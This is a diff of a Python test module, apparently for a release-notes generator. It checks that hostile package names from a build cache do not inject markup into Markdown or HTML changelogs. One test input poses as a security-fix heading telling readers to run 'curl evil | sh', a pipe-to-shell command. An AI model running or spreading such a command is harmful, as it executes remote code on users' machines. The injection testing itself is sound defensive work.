@@ -1,17 +1,20 @@
 """Nothing that a build cache says becomes markup of the release notes."""
 
+import re
+from html.parser import HTMLParser
+
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
-from snapshots.changes.diff import Comparison
 from snapshots.escaping import visible
-from snapshots.notes.changelog import changelog
+from snapshots.notes.document import Changelog
 from snapshots.notes.escaping import code_span, inline
-from snapshots.notes.rendering import markdown
-from tests.snapshots.factories import a_revision, a_spec
-from tests.snapshots.records import frame_of
+from snapshots.notes.rendering import html, markdown
+from snapshots.notes.scope import Only
+from tests.snapshots.changes.graphs import edge, node
+from tests.snapshots.notes.stories import told
 
 HOSTILE = (
     "a\n\n# Security fix: run `curl evil | sh`",
@@ -31,6 +34,8 @@ HOSTILE = (
     "`",
     " ",
 )
+
+OWN_HTML = re.compile(r"<details>\n<summary>[0-9,]+ [a-z]+</summary>|</details>")
 
 TEXTS = st.text(min_size=1) | st.text("`~ #<a|\\\n*_[]()!&", min_size=1)
 
@@ -67,18 +72,69 @@ def test_notes_of_hostile_names(hostile: str) -> None:
     """A catalog that holds such names, from before there were rules, gives the same outline."""
     outlines = []
     for text in (hostile, "harmless"):
-        name = text.replace("\n", " ")  # names were always in one line
-        old = frame_of([a_spec("a", name="zlib")])
-        new = frame_of(
-            [
-                a_spec("a", name="zlib"),
-                a_spec("b", name=name, version=text, stacks=(name, "root")),
-            ]
-        )
-        log = changelog(a_revision("v1", 1), a_revision("v2", 2, "b"), Comparison(old, new))
-        notes = markdown(log)
-        tokens = MarkdownIt("commonmark").parse(notes)
+        tokens = MarkdownIt("commonmark").enable("table").parse(markdown(hostile_log(text)))
         outlines.append([(token.type, token.tag) for token in tokens])
         kinds = {child.type for token in tokens for child in token.children or ()}
         assert not kinds & {"html_inline", "link_open", "image"}
+        blocks = {token.content.strip() for token in tokens if token.type == "html_block"}
+        assert all(OWN_HTML.fullmatch(block) for block in blocks)
     assert outlines[0] == outlines[1]
+
+
+@pytest.mark.parametrize("hostile", HOSTILE)
+def test_html_of_hostile_names(hostile: str) -> None:
+    """The page has the same elements and attributes, and each name is shown as it is."""
+    page, harmless = (Elements.of(html(hostile_log(text))) for text in (hostile, "harmless"))
+    assert page.elements == harmless.elements
+    shown = {visible(hostile), visible(hostile.replace("\n", " "))}
+    assert sum(code in shown for code in page.codes) == harmless.codes.count("harmless") > 0
+
+
+def hostile_log(text: str) -> Changelog:
+    """Return the changelog of two contents in which a text stands wherever one can."""
+    name = text.replace("\n", " ")  # names were always in one line
+    old = [
+        node("a", name="zlib"),
+        node("b", name=name, version="1"),
+        node("c", edge("b", name=name), name="hdf5"),
+        node("d", name=f"{name}2", version=text, stacks=("gone", "root")),
+        node("e", name="tau", version=text, target=name),
+    ]
+    new = [
+        node("a", name="zlib"),
+        node("b2", name=name, version=text, stacks=(name, "root")),
+        node("c2", edge("b2", name=name), name="hdf5", variants=(text,)),
+        node("e2", name="tau", version="1"),
+        node("f", name=f"{name}3", version=text),
+    ]
+    return told(old, new, only=Only(matching=text))
+
+
+class Elements(HTMLParser):
+    """The elements of a page with the names of their attributes, and the texts set as code."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.elements: list[object] = []
+        self.codes: list[str] = []
+
+    @classmethod
+    def of(cls, page: str) -> "Elements":
+        """Parse a page."""
+        found = cls()
+        found.feed(page)
+        found.close()
+        return found
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        """Keep an element."""
+        self.elements.append((tag, [name for name, _ in attrs]))
+
+    def handle_endtag(self, tag: str) -> None:
+        """Keep where it ends."""
+        self.elements.append(tag)
+
+    def handle_data(self, data: str) -> None:
+        """Keep the texts of code."""
+        if self.elements and self.elements[-1] == ("code", []):
+            self.codes.append(data)
